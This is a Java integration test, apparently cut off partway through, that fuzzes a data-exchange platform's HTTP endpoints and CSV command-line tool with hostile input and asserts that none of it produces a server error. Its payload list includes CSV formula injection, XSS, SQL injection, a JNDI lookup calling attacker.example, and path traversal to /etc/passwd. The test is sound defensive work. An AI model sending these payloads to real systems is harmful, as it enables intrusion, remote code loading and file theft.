package gt.enlace.platform.faults;

import static gt.enlace.platform.faults.FaultKit.BIRTHS;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import gt.enlace.platform.EnlaceCli;
import gt.enlace.platform.runtime.Platform;
import gt.enlace.platform.runtime.PlatformSettings;
import gt.enlace.publisher.csv.CsvTemplate;
import gt.enlace.publisher.json.JsonText;
import gt.enlace.publisher.json.PlainJson;
import gt.enlace.schemas.samples.SampleEvents;
import org.apache.avro.Schema;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import picocli.CommandLine;

/**
 * A generated corpus of hostile input (malformed JSON and CSV, invalid UTF-8 and wrong encodings, huge fields, deep
 * nesting, control characters, formula/HTML/SQL injection strings, path traversal in topic and subject names) sent to
 * every HTTP endpoint of a running platform (gateway, CSV upload, deliveries, survey API and forms, the portal's catalog,
 * dashboard, onboarding and upload pages, the catalog API, published keys, checklist, agreements API, schema registry,
 * health) and to {@code enlace publish-csv}: no answer is a 5xx, the platform keeps serving, and every error
 * answer says what is wrong. The counts per endpoint and status are printed for the record.
 */
@Timeout(value = 15, unit = TimeUnit.MINUTES)
class HostileInputFaultIT {

    /** Strings an attacker or a broken client puts anywhere: names, values, parameters. */
    static final List<String> HOSTILE = List.of(
        "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
        "'; DROP TABLE events;--", "1 OR 1=1", "${jndi:ldap://attacker.example/a}", "{{7*7}}",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd",
        "\u0000", "a\u0000b", "\u001b[31mred\u001b[0m", "\r\nSet-Cookie: x=y", "\u202etxt.exe", "\uFEFF", "\uD83D\uDE00",
        "ñandú ÁÉÍÓÚ", "x".repeat(5_000), "", " ", "-1", "0", "99999999999999999999", "1e309", "NaN", "null", "latest");

    private static final Map<String, Map<Integer, Integer>> STATUS = new TreeMap<>();
    private static final List<String> PROBLEMS = new ArrayList<>();
    private static final List<String> CLOSED_ON_LARGE_BODY = new ArrayList<>();
    private static final int TOMCAT_SWALLOW_LIMIT = 2 * 1024 * 1024;

    @TempDir
    static Path dataDir;

    private static Platform platform;

    @BeforeAll
    static void start() {
        platform = Platform.start(PlatformSettings.ephemeral(dataDir), FaultKit.CATALOG, line -> { });
    }

    @AfterAll
    static void stop() {
        if (platform != null) {
            platform.close();
        }
    }

    @Test
    void noHostileRequestToAnyEndpointGetsA5xxAndEveryErrorNamesTheProblem() throws Exception {
        String web = platform.httpUrl();
        String registry = platform.registryUrl();
        List<byte[]> bodies = jsonCorpus();
        List<String> types = List.of("application/json", "application/json; charset=UTF-16", "text/plain", "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x", "a/b/c;;=", "");

        // Gateway: hostile topic names, then every body with every content type on a real topic.
        byte[] valid = JsonText.mapper().writeValueAsBytes(PlainJson.toJson(SampleEvents.sampleFor(BIRTHS, 1)));
        for (String topic : HOSTILE) {
            call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/" + seg(topic) + "/events", "application/json", valid);
            call("deliveries GET /api/v1/topics/{topic}/deliveries", "GET", web + "/api/v1/topics/" + seg(topic) + "/deliveries", null, null);
            call("csv POST /api/v1/topics/{topic}/csv", "POST", web + "/api/v1/topics/" + seg(topic) + "/csv", "text/csv", "a,b\r\n1,2\r\n".getBytes(StandardCharsets.UTF_8));
        }
        call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/../../../etc/passwd/events", "application/json", valid);
        call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/%2e%2e%2f%2e%2e%2fhealth/events", "application/json", valid);
        for (byte[] body : bodies) {
            for (String type : types) {
                call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/" + BIRTHS + "/events", type, body);
            }
            call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/" + BIRTHS + "/events", "application/json", body,
                "Idempotency-Key", "hostile-" + body.length + "-" + java.util.Arrays.hashCode(body));
        }
        for (String key : HOSTILE) {
            if (key.chars().allMatch(c -> c >= 0x20 && c < 0x7f)) { // HTTP header values cannot carry the others
                call("gateway POST /api/v1/topics/{topic}/events", "POST", web + "/api/v1/topics/" + BIRTHS + "/events", "application/json", valid,
                    "Idempotency-Key", key.isEmpty() ? "empty" : key);
            }
        }
        call("gateway DELETE /api/v1/topics/{topic}/events", "DELETE", web + "/api/v1/topics/" + BIRTHS + "/events", null, null);
        call("gateway GET /openapi", "GET", web + "/openapi", null, null);

        // CSV upload: the CSV corpus with each content type and hostile parameters.
        Map<String, byte[]> csvs = csvCorpus();
        for (byte[] csv : csvs.values()) {
            for (String type : List.of("text/csv", "application/octet-stream", "application/json", "")) {
                call("csv POST /api/v1/topics/{topic}/csv", "POST", web + "/api/v1/topics/" + BIRTHS + "/csv", type, csv);
            }
        }
        byte[] oneRow = csvs.get("formula-injection");
        for (String value : HOSTILE) {
            call("csv POST /api/v1/topics/{topic}/csv", "POST", web + "/api/v1/topics/" + BIRTHS + "/csv?encoding=" + q(value), "text/csv", oneRow);
            call("csv POST /api/v1/topics/{topic}/csv", "POST", web + "/api/v1/topics/" + BIRTHS + "/csv?delimiter=" + q(value), "text/csv", oneRow);
            call("csv POST /api/v1/topics/{topic}/csv", "POST", web + "/api/v1/topics/" + BIRTHS + "/csv?ignoreUnknownColumns=" + q(value), "text/csv", oneRow);
        }

        // Survey API.
        for (String value : HOSTILE) {
            call("survey GET /api/v1/survey/instrument", "GET", web + "/api/v1/survey/instrument?lang=" + q(value), null, null);
            call("survey GET /api/v1/survey/institutions", "GET", web + "/api/v1/survey/institutions?round=" + q(value) + "&lang=" + q(value)
                + "&format=" + q(value), null, null);
            call("survey GET /api/v1/survey/institutions", "GET", web + "/api/v1/survey/institutions?from=" + q(value) + "&to=" + q(value), null, null);
            call("survey GET /api/v1/survey/institutions/{code}", "GET", web + "/api/v1/survey/institutions/" + seg(value) + "?format=" + q(value), null, null);
            call("survey GET /api/v1/survey/overview", "GET", web + "/api/v1/survey/overview?round=" + q(value) + "&from=" + q(value)
                + "&format=" + q(value), null, null);
            call("survey POST /api/v1/survey/rounds/{round}/responses", "POST", web + "/api/v1/survey/rounds/" + seg(value) + "/responses",
                "application/json", "{\"institution\":\"renap\",\"answers\":{}}".getBytes(StandardCharsets.UTF_8));
        }
        for (byte[] body : bodies) {
            for (String type : List.of("application/json", "text/plain")) {
                call("survey POST /api/v1/survey/rounds/{round}/responses", "POST", web + "/api/v1/survey/rounds/2025/responses", type, body);
                call("survey POST /api/v1/survey/manual-exchanges", "POST", web + "/api/v1/survey/manual-exchanges", type, body);
            }
        }
        for (String value : HOSTILE) {
            ObjectNode response = JsonText.mapper().createObjectNode();
            response.put("institution", value).put("respondent", value).put("origin", value);
            response.putObject("answers").put(value.isEmpty() ? "q" : value, value);
            call("survey POST /api/v1/survey/rounds/{round}/responses", "POST", web + "/api/v1/survey/rounds/2025/responses", "application/json",
                JsonText.mapper().writeValueAsBytes(response));
            ObjectNode exchange = JsonText.mapper().createObjectNode();
            for (String field : List.of("from", "to", "institution", "dataset", "channel", "frequency", "date", "description")) {
                exchange.put(field, value);
            }
            call("survey POST /api/v1/survey/manual-exchanges", "POST", web + "/api/v1/survey/manual-exchanges", "application/json",
                JsonText.mapper().writeValueAsBytes(exchange));
        }

        // Health and the portal's pages.
        for (String value : HOSTILE) {
            call("health GET /health", "GET", web + "/health?x=" + q(value), null, null);
            call("portal GET /", "GET", web + "/?lang=" + q(value), null, null);
            call("portal GET /portal", "GET", web + "/portal?lang=" + q(value), null, null);
        }

        // The portal's pages and forms, the catalog API, the published keys, the checklist and the agreements API (which
        // answers 401 without credentials, and to wrong ones, on this platform too).
        String wrongLogin = "Basic " + Base64.getEncoder().encodeToString("renap:not-the-password".getBytes(StandardCharsets.UTF_8));
        for (String value : HOSTILE) {
            String params = everyParameter(value);
            String s = seg(value);
            call("catalog GET /api/v1/catalog", "GET", web + "/api/v1/catalog?" + params, null, null);
            call("catalog GET /api/v1/catalog/topics/{topic}", "GET", web + "/api/v1/catalog/topics/" + s + "?" + params, null, null);
            call("catalog GET /api/v1/catalog/topics/{topic}", "GET", web + "/api/v1/catalog/topics/" + BIRTHS + "?" + params, null, null);
            call("portal GET /catalog", "GET", web + "/catalog?" + params, null, null);
            call("portal GET /catalog/topics/{topic}", "GET", web + "/catalog/topics/" + s + "?" + params, null, null);
            call("portal GET /catalog/topics/{topic}", "GET", web + "/catalog/topics/" + BIRTHS + "?" + params, null, null);
            call("portal GET /catalog/institutions/{code}", "GET", web + "/catalog/institutions/" + s + "?" + params, null, null);
            call("portal POST /catalog/topics/{topic}/access", "POST", web + "/catalog/topics/" + BIRTHS + "/access", FORM,
                form(value, "institution", "consumer", "purpose", "legalBasis", "validFrom", "validUntil", "contact", "lang"));
            call("portal POST /catalog/topics/{topic}/access", "POST", web + "/catalog/topics/" + s + "/access", FORM,
                form(value, "institution", "purpose", "legalBasis"));
            for (String page : List.of("/dashboard", "/dashboard/institutions", "/dashboard/institutions/{code}", "/dashboard/institutions/renap",
                    "/dashboard/network", "/dashboard/report", "/onboarding", "/onboarding/{code}", "/onboarding/renap",
                    "/onboarding/templates/{code}.csv", "/upload", "/upload/template", "/upload/rejects/{code}", "/survey",
                    "/survey/manual-exchanges")) {
                call("portal GET " + page, "GET", web + page.replace("{code}", s) + "?" + params, null, null);
            }
            call("portal POST /survey", "POST", web + "/survey", FORM, form(value, "institution", "round", "respondent", "origin", "lang",
                "std.policy", value.isEmpty() ? "q" : value));
            call("portal POST /survey/manual-exchanges", "POST", web + "/survey/manual-exchanges", FORM,
                form(value, "from", "to", "institution", "dataset", "channel", "frequency", "date", "description", "lang"));
            call("portal POST /upload", "POST", web + "/upload", MULTIPART, multipart(value, value, value + ".csv",
                "registrationNumber\r\n" + value + "\r\n"));
            call("keys GET /api/v1/keys", "GET", web + "/api/v1/keys?" + params, null, null);
            call("keys GET /api/v1/keys/{institution}", "GET", web + "/api/v1/keys/" + s, null, null);
            call("survey GET /api/v1/survey/institutions/{code}/checklist", "GET",
                web + "/api/v1/survey/institutions/" + s + "/checklist?" + params, null, null);
            call("survey GET /api/v1/survey/institutions/{code}/checklist", "GET",
                web + "/api/v1/survey/institutions/renap/checklist?" + params, null, null);
            ObjectNode agreement = JsonText.mapper().createObjectNode();
            for (String field : List.of("provider", "consumer", "legalBasis", "purpose", "validFrom", "validUntil", "reason")) {
                agreement.put(field, value);
            }
            agreement.putArray("topics").add(value);
            byte[] agreementBody = JsonText.mapper().writeValueAsBytes(agreement);
            call("agreements GET /api/v1/agreements", "GET", web + "/api/v1/agreements?" + params, null, null);
            call("agreements GET /api/v1/agreements", "GET", web + "/api/v1/agreements?" + params, null, null, "Authorization", wrongLogin);
            call("agreements POST /api/v1/agreements", "POST", web + "/api/v1/agreements", "application/json", agreementBody);
            call("agreements POST /api/v1/agreements", "POST", web + "/api/v1/agreements", "application/json", agreementBody,
                "Authorization", wrongLogin);
            for (String action : List.of("approve", "reject", "revoke")) {
                call("agreements POST /api/v1/agreements/{id}/" + action, "POST", web + "/api/v1/agreements/" + s + "/" + action,
                    "application/json", agreementBody);
            }
        }
        for (byte[] body : bodies) {
            call("agreements POST /api/v1/agreements", "POST", web + "/api/v1/agreements", "application/json", body, "Authorization", wrongLogin);
            call("portal POST /survey", "POST", web + "/survey", FORM, body);
            call("portal POST /catalog/topics/{topic}/access", "POST", web + "/catalog/topics/" + BIRTHS + "/access", FORM, body);
        }

        // Schema registry (its own port).
        List<byte[]> registryBodies = new ArrayList<>(bodies);
        for (String value : HOSTILE) {
            registryBodies.add(JsonText.mapper().writeValueAsBytes(Map.of("schema", value)));
            registryBodies.add(JsonText.mapper().writeValueAsBytes(Map.of("schema", "{\"type\":\"record\",\"name\":\"" + value.replace("\"", "")
                + "\",\"fields\":[{\"name\":\"" + value.replace("\"", "") + "\",\"type\":\"string\"}]}")));
            registryBodies.add(JsonText.mapper().writeValueAsBytes(Map.of("compatibility", value, "mode", value)));
        }
        registryBodies.add(JsonText.mapper().writeValueAsBytes(Map.of("schema", "[".repeat(5_000) + "\"string\"" + "]".repeat(5_000))));
        registryBodies.add(JsonText.mapper().writeValueAsBytes(Map.of("schema", "{\"type\":\"record\",\"name\":\"R\",\"fields\":[]}",
            "schemaType", "PROTOBUF")));
        for (String subject : HOSTILE) {
            String s = seg(subject);
            call("registry GET /subjects/{subject}/versions", "GET", registry + "/subjects/" + s + "/versions?offset=" + q(subject) + "&limit=" + q(subject), null, null);
            call("registry GET /subjects/{subject}/versions/{version}", "GET", registry + "/subjects/" + s + "/versions/" + s, null, null);
            call("registry GET /subjects/{subject}/versions/{version}/schema", "GET", registry + "/subjects/" + s + "/versions/" + s + "/schema", null, null);
            call("registry GET /subjects/{subject}/versions/{version}/referencedby", "GET", registry + "/subjects/" + s + "/versions/" + s + "/referencedby", null, null);
            call("registry GET /subjects/{subject}/versions/{version}", "GET", registry + "/subjects/" + BIRTHS + "-value/versions/" + s, null, null);
            call("registry DELETE /subjects/{subject}/versions/{version}", "DELETE", registry + "/subjects/" + s + "/versions/" + s + "?permanent=" + q(subject), null, null);
            call("registry DELETE /subjects/{subject}", "DELETE", registry + "/subjects/" + s + "?permanent=" + q(subject), null, null);
            call("registry GET /subjects", "GET", registry + "/subjects?subjectPrefix=" + q(subject) + "&offset=" + q(subject) + "&limit=" + q(subject)
                + "&deleted=" + q(subject), null, null);
            call("registry GET /schemas/ids/{id}", "GET", registry + "/schemas/ids/" + s + "?subject=" + q(subject), null, null);
            call("registry GET /schemas/ids/{id}/schema", "GET", registry + "/schemas/ids/" + s + "/schema", null, null);
            call("registry GET /schemas/ids/{id}/subjects", "GET", registry + "/schemas/ids/" + s + "/subjects?offset=" + q(subject), null, null);
            call("registry GET /schemas/ids/{id}/versions", "GET", registry + "/schemas/ids/" + s + "/versions?limit=" + q(subject), null, null);
            call("registry GET /schemas/ids/{id}", "GET", registry + "/schemas/ids/1?subject=" + q(subject), null, null);
            call("registry GET /schemas/guids/{guid}", "GET", registry + "/schemas/guids/" + s, null, null);
            call("registry GET /schemas/guids/{guid}/schema", "GET", registry + "/schemas/guids/" + s + "/schema", null, null);
            call("registry GET /schemas", "GET", registry + "/schemas?subjectPrefix=" + q(subject) + "&latestOnly=" + q(subject) + "&offset=" + q(subject), null, null);
            call("registry GET /config/{subject}", "GET", registry + "/config/" + s + "?defaultToGlobal=" + q(subject), null, null);
            call("registry DELETE /config/{subject}", "DELETE", registry + "/config/" + s, null, null);
            call("registry GET /mode/{subject}", "GET", registry + "/mode/" + s + "?defaultToGlobal=" + q(subject), null, null);
            call("registry DELETE /mode/{subject}", "DELETE", registry + "/mode/" + s + "?recursive=" + q(subject), null, null);
            call("registry GET /config", "GET", registry + "/config?defaultToGlobal=" + q(subject), null, null);
            call("registry GET /associations", "GET", registry + "/associations/" + s, null, null);
        }
        call("registry GET /", "GET", registry + "/", null, null);
        call("registry GET /contexts", "GET", registry + "/contexts", null, null);
        call("registry GET /schemas/types", "GET", registry + "/schemas/types", null, null);
        for (byte[] body : registryBodies) {
            for (String type : List.of("application/vnd.schemaregistry.v1+json", "text/plain")) {
                call("registry POST /subjects/{subject}/versions", "POST", registry + "/subjects/hostile-value/versions", type, body);
            }
            call("registry POST /subjects/{subject}", "POST", registry + "/subjects/" + BIRTHS + "-value", "application/json", body);
            call("registry POST /compatibility/subjects/{subject}/versions/{version}", "POST",
                registry + "/compatibility/subjects/" + BIRTHS + "-value/versions/latest", "application/json", body);
            call("registry POST /compatibility/subjects/{subject}/versions", "POST",
                registry + "/compatibility/subjects/" + BIRTHS + "-value/versions", "application/json", body);
            call("registry PUT /config/{subject}", "PUT", registry + "/config/hostile-value", "application/json", body);
            call("registry PUT /mode/{subject}", "PUT", registry + "/mode/hostile-value", "application/json", body);
        }
        for (String subject : HOSTILE) {
            call("registry POST /subjects/{subject}/versions", "POST", registry + "/subjects/" + seg(subject) + "/versions", "application/json",
                JsonText.mapper().writeValueAsBytes(Map.of("schema", "\"string\"")));
        }

        // The portal's upload form: every corpus file as the uploaded file, for a topic of the institution.
        for (Map.Entry<String, byte[]> csv : csvs.entrySet()) {
            call("portal POST /upload", "POST", web + "/upload", MULTIPART, multipart("renap", BIRTHS, csv.getKey() + ".csv", csv.getValue()));
        }

        // The CSV bridge from the command line: every corpus file, nothing but exit 0, 1 or 2 and a message.
        Map<Integer, Integer> cliExits = new TreeMap<>();
        for (Map.Entry<String, byte[]> csv : csvs.entrySet()) {
            Path file = dataDir.resolve("hostile-" + csv.getKey() + ".csv");
            Files.write(file, csv.getValue());
            StringWriter out = new StringWriter();
            StringWriter err = new StringWriter();
            CommandLine cli = EnlaceCli.commandLine();
            cli.setOut(new PrintWriter(out));
            cli.setErr(new PrintWriter(err));
            int exit = cli.execute("publish-csv", "--institution", "renap", "--topic", BIRTHS, "--bootstrap-servers", platform.bootstrapServers(),
                "--registry-url", registry, file.toString());
            cliExits.merge(exit, 1, Integer::sum);
            if (exit == 1 && !err.toString().contains("enlace: error: ")) {
                PROBLEMS.add("publish-csv " + csv.getKey() + ": exit 1 without a message: " + err);
            } else if (exit != 0 && exit != 1 && exit != 2) {
                PROBLEMS.add("publish-csv " + csv.getKey() + ": exit " + exit + ": " + err);
            }
            if (err.toString().contains("\tat ")) {
                PROBLEMS.add("publish-csv " + csv.getKey() + ": stack trace: " + err);
            }
        }

        // Still serving after all that.
        HttpResponse<String> health = FaultKit.send(HttpRequest.newBuilder(URI.create(web + "/health")).timeout(Duration.ofSeconds(30)).build());
        HttpResponse<String> publish = FaultKit.post(web + "/api/v1/topics/" + BIRTHS + "/events", "application/json", valid, Map.of());

        int total = STATUS.values().stream().flatMap(m -> m.values().stream()).mapToInt(Integer::intValue).sum();
        Map<Integer, Integer> overall = new TreeMap<>();
        STATUS.values().forEach(m -> m.forEach((status, n) -> overall.merge(status, n, Integer::sum)));
        StringBuilder report = new StringBuilder("Hostile input sweep: " + total + " HTTP requests, " + csvs.size()
            + " CSV files through enlace publish-csv (exit codes " + cliExits + ")\n");
        STATUS.forEach((endpoint, counts) -> report.append(String.format("  %-75s %5d  %s%n", endpoint,
            counts.values().stream().mapToInt(Integer::intValue).sum(), counts)));
        report.append("  status distribution: ").append(overall).append('\n');
        report.append("  connections closed on a rejected body over 2 MiB (-1): ").append(CLOSED_ON_LARGE_BODY).append('\n');
        report.append("  problems: ").append(PROBLEMS.size()).append('\n');
        PROBLEMS.stream().limit(200).forEach(p -> report.append("    ").append(p).append('\n'));
        System.out.println(report);

        assertThat(health.statusCode()).isEqualTo(200);
        assertThat(publish.statusCode()).as(publish.body()).isEqualTo(200);
        assertThat(overall.keySet()).as("statuses").allSatisfy(status -> assertThat(status).isLessThan(500));
        assertThat(PROBLEMS).isEmpty();
    }

    /** Sends one request and records its status; a 5xx, or an error without a message, is a problem. */
    private static void call(String endpoint, String method, String url, String contentType, byte[] body, String... headers) {
        HttpRequest.Builder request;
        try {
            request = HttpRequest.newBuilder(URI.create(url)).timeout(Duration.ofSeconds(60));
        } catch (IllegalArgumentException notAUri) {
            PROBLEMS.add(endpoint + ": the test built an invalid URI " + url);
            return;
        }
        request.method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofByteArray(body));
        if (contentType != null && !contentType.isEmpty()) {
            request.header("Content-Type", contentType);
        }
        for (int i = 0; i < headers.length; i += 2) {
            request.header(headers[i], headers[i + 1]);
        }
        int status;
        String answer;
        try {
            HttpResponse<byte[]> response = FaultKit.HTTP.send(request.build(), HttpResponse.BodyHandlers.ofByteArray());
            status = response.statusCode();
            answer = new String(response.body(), StandardCharsets.UTF_8);
        } catch (Exception e) {
            STATUS.computeIfAbsent(endpoint, k -> new TreeMap<>()).merge(-1, 1, Integer::sum);
            if (body != null && body.length > TOMCAT_SWALLOW_LIMIT) {
                // Tomcat closes the connection rather than read more than 2 MiB of a body the application rejected
                // without reading it: a limit of the server, counted apart as -1.
                CLOSED_ON_LARGE_BODY.add(endpoint + " " + abbreviate(url) + " [" + contentType + ", " + body.length + " B]: " + e);
            } else {
                PROBLEMS.add(endpoint + " " + abbreviate(url) + ": no answer: " + e);
            }
            return;
        }
        STATUS.computeIfAbsent(endpoint, k -> new TreeMap<>()).merge(status, 1, Integer::sum);
        if (status >= 500) {
            PROBLEMS.add(endpoint + " " + method + " " + abbreviate(url) + " [" + contentType + ", " + (body == null ? 0 : body.length)
                + " B]: " + status + " " + abbreviate(answer));
        } else if (status >= 400 && !namesTheProblem(answer)) {
            PROBLEMS.add(endpoint + " " + method + " " + abbreviate(url) + " [" + contentType + "]: " + status + " without a message: "
                + abbreviate(answer));
        }
    }

    /** An error answer says what is wrong: a JSON body with a non-empty message, or a page saying it. */
    private static boolean namesTheProblem(String answer) {
        try {
            JsonNode json = JsonText.mapper().readTree(answer);
            if (json != null && json.isObject()) {
                String message = json.path("message").asText(json.path("detail").asText(""));
                return message.length() >= 10;
            }
        } catch (Exception notJson) {
            // an HTML page or plain text
        }
        return answer.strip().length() >= 10;
    }

    private static String abbreviate(String text) {
        String oneLine = text.replaceAll("[\\r\\n]+", " ");
        return oneLine.length() > 300 ? oneLine.substring(0, 300) + "..." : oneLine;
    }

    private static String seg(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static final String FORM = "application/x-www-form-urlencoded";
    private static final String BOUNDARY = "enlace-hostile-boundary";
    private static final String MULTIPART = "multipart/form-data; boundary=" + BOUNDARY;

    /** A query string giving {@code value} to every parameter name the platform's pages and APIs read. */
    private static String everyParameter(String value) {
        StringBuilder query = new StringBuilder();
        for (String name : List.of("lang", "q", "institution", "field", "topic", "round", "format", "table", "from", "to", "status",
                "encoding", "mapping", "page", "sort")) {
            query.append(query.length() == 0 ? "" : "&").append(name).append('=').append(q(value));
        }
        return query.toString();
    }

    /** A form body giving {@code value} to every named field. */
    private static byte[] form(String value, String... names) {
        StringBuilder body = new StringBuilder();
        for (String name : names) {
            body.append(body.length() == 0 ? "" : "&").append(q(name)).append('=').append(q(value));
        }
        return body.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] multipart(String institution, String topic, String fileName, String content) {
        return multipart(institution, topic, fileName, content.getBytes(StandardCharsets.UTF_8));
    }

    /** The upload form's multipart body, fields and file name as given (hostile ones included, unescaped). */
    private static byte[] multipart(String institution, String topic, String fileName, byte[] content) {
        ByteArrayOutputStream body = new ByteArrayOutputStream();
        for (String[] field : new String[][] {{"institution", institution}, {"topic", topic}, {"encoding", "UTF-8"}}) {
            body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"" + field[0] + "\"\r\n\r\n" + field[1] + "\r\n")
                .getBytes(StandardCharsets.UTF_8));
        }
        body.writeBytes(("--" + BOUNDARY + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + fileName
            + "\"\r\nContent-Type: text/csv\r\n\r\n").getBytes(StandardCharsets.UTF_8));
        body.writeBytes(content);
        body.writeBytes(("\r\n--" + BOUNDARY + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return body.toByteArray();
    }

    private static String q(String value) {
        return URLEncoder.encode(value, StandardCharsets.UTF_8);
    }

    /** Malformed, mis-encoded, oversized, deeply nested and injection-laden JSON bodies. */
    static List<byte[]> jsonCorpus() throws Exception {
        List<byte[]> corpus = new ArrayList<>();
        for (String text : List.of("", " ", "{", "[", "}", "{\"a\":}", "[1,2", "nul", "{\"a\":1}garbage", "\"just a string\"", "42", "null",
            "true", "[]", "{}", "[{}]", "[null]", "{\"a\":1,\"a\":2}", "{'single':'quotes'}", "{\"a\":1e999999999}", "{\"a\":-0}",
            "{\"a\":\"\\ud800\"}", "{\"a\":\"\\u0000\"}", "/* comment */ {}", "{\"a\":NaN}", "\u0000\u0000\u0000")) {
            corpus.add(text.getBytes(StandardCharsets.UTF_8));
        }
        corpus.add(new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xC3, 0x28, '"', '}'});
        corpus.add(new byte[] {(byte) 0xFF, (byte) 0xFE, (byte) 0xFD, 0, 1, 2});
        byte[] random = new byte[4096];
        new Random(10).nextBytes(random);
        corpus.add(random);
        ObjectNode sample = PlainJson.toJson(SampleEvents.sampleFor(BIRTHS, 3));
        String sampleText = JsonText.mapper().writeValueAsString(sample);
        corpus.add(("\uFEFF" + sampleText).getBytes(StandardCharsets.UTF_8));
        corpus.add(sampleText.getBytes(StandardCharsets.UTF_16));
        corpus.add(sampleText.replace("a", "ñ").getBytes(Charset.forName("windows-1252")));
        corpus.add(("[".repeat(10_000) + "]".repeat(10_000)).getBytes(StandardCharsets.UTF_8));
        corpus.add(("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)).getBytes(StandardCharsets.UTF_8));
        corpus.add(JsonText.mapper().writeValueAsBytes(withEveryText(sample, "A".repeat(1_000_000))));
        corpus.add(("[" + (sampleText + ",").repeat(8_000) + sampleText + "]").getBytes(StandardCharsets.UTF_8)); // > 5 MB
        for (String hostile : HOSTILE) {
            corpus.add(JsonText.mapper().writeValueAsBytes(withEveryText(sample, hostile)));
        }
        for (JsonNode wrong : List.of(JsonText.mapper().createArrayNode(), JsonText.mapper().createObjectNode(), TextNode.valueOf("x"),
                JsonText.mapper().getNodeFactory().numberNode(1), JsonText.mapper().getNodeFactory().nullNode())) {
            ObjectNode copy = sample.deepCopy();
            sample.fieldNames().forEachRemaining(name -> copy.set(name, wrong));
            corpus.add(JsonText.mapper().writeValueAsBytes(copy));
        }
        return corpus;
    }

    private static JsonNode withEveryText(JsonNode node, String value) {
        if (node.isTextual()) {
            return TextNode.valueOf(value);
        }
        if (node.isObject()) {
            ObjectNode copy = JsonText.mapper().createObjectNode();
            node.fields().forEachRemaining(e -> copy.set(e.getKey(), withEveryText(e.getValue(), value)));
            return copy;
        }
        if (node.isArray()) {
            var copy = JsonText.mapper().createArrayNode();
            node.forEach(e -> copy.add(withEveryText(e, value)));
            return copy;
        }
        return node;
    }

    /** CSV files a spreadsheet, a broken export or an attacker produces, by name. */
    static Map<String, byte[]> csvCorpus() throws Exception {
        Schema schema = FaultKit.CATALOG.topic(BIRTHS).orElseThrow().schema();
        List<String> header = CsvTemplate.header(schema);
        List<String> row = CsvTemplate.row(schema, SampleEvents.sampleFor(BIRTHS, 7));
        String head = String.join(",", header) + "\r\n";
        Map<String, byte[]> corpus = new LinkedHashMap<>();
        StringBuilder injected = new StringBuilder(head);
        for (String hostile : HOSTILE) {
            List<String> cells = new ArrayList<>();
            for (String cell : row) {
                cells.add(cell.matches("[A-Za-zÀ-ÿ ]+") ? quote(hostile) : cell);
            }
            injected.append(String.join(",", cells)).append("\r\n");
        }
        corpus.put("formula-injection", injected.toString().getBytes(StandardCharsets.UTF_8));
        corpus.put("empty", new byte[0]);
        corpus.put("header-only", head.getBytes(StandardCharsets.UTF_8));
        corpus.put("unknown-columns", ("<script>,'; DROP TABLE x;--,../../etc/passwd\r\n1,2,3\r\n").getBytes(StandardCharsets.UTF_8));
        corpus.put("duplicate-columns", (head.strip() + "," + header.get(0) + "\r\n").getBytes(StandardCharsets.UTF_8));
        corpus.put("unbalanced-quote", (head + "\"" + String.join(",", row) + "\r\n").getBytes(StandardCharsets.UTF_8));
        corpus.put("short-and-long-rows", (head + "1,2\r\n" + String.join(",", row) + ",extra,extra\r\n").getBytes(StandardCharsets.UTF_8));
        byte[] random = new byte[64 * 1024];
        new Random(6).nextBytes(random);
        corpus.put("binary", random);
        ByteArrayOutputStream invalidUtf8 = new ByteArrayOutputStream();
        invalidUtf8.write(head.getBytes(StandardCharsets.UTF_8));
        invalidUtf8.write(String.join(",", row).replaceFirst("[A-Za-z]", "\u0000").getBytes(StandardCharsets.UTF_8));
        invalidUtf8.write(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, '\r', '\n'});
        corpus.put("invalid-utf8-and-nul", invalidUtf8.toByteArray());
        corpus.put("utf16-bom", (head + String.join(",", row) + "\r\n").getBytes(StandardCharsets.UTF_16));
        corpus.put("windows-1252", (head + String.join(",", row).replaceFirst("[a-z]", "ñ") + "\r\n").getBytes(Charset.forName("windows-1252")));
        List<String> huge = new ArrayList<>(row);
        huge.set(0, "Z".repeat(2_000_000));
        corpus.put("huge-field", (head + String.join(",", huge) + "\r\n").getBytes(StandardCharsets.UTF_8));
        corpus.put("many-columns", (String.join(",", java.util.Collections.nCopies(20_000, "c")) + "\r\n").getBytes(StandardCharsets.UTF_8));
        corpus.put("cr-only-and-control", (head.replace("\r\n", "\r") + String.join(",", row).replace(",", ",\u001b[2J") + "\r")
            .getBytes(StandardCharsets.UTF_8));
